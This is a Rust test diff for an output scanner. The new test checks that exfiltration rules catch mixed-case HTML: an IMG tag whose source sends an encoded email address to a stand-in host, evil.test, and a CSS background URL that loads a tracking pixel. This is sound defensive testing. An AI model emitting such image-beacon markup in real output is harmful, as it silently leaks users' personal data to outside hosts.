@@ -126,3 +126,25 @@ fn engine_scan_output_blocks_exfil_and_reports_pii() {
         .iter()
         .any(|f| f.rule_id == "pii.credit_card"));
 }
+
+#[test]
+fn html_tag_and_attribute_names_are_read_in_any_case() {
+    let opts = OutputOptions::default();
+    let f = scan_output("<IMG SRC=\"https://evil.test/p?u=jane%40acme.io\">", &opts);
+    assert!(
+        f.iter()
+            .any(|f| f.rule_id == "exfiltration.output.image_with_data"),
+        "{f:?}"
+    );
+    let opts = OutputOptions {
+        allowed_domains: vec!["acme.io".to_owned()],
+        ..OutputOptions::default()
+    };
+    assert_eq!(
+        ids(
+            "<div style=\"background:URL('https://track.er/p.gif')\">",
+            &opts
+        ),
+        ["exfiltration.output.external_image"]
+    );
+}
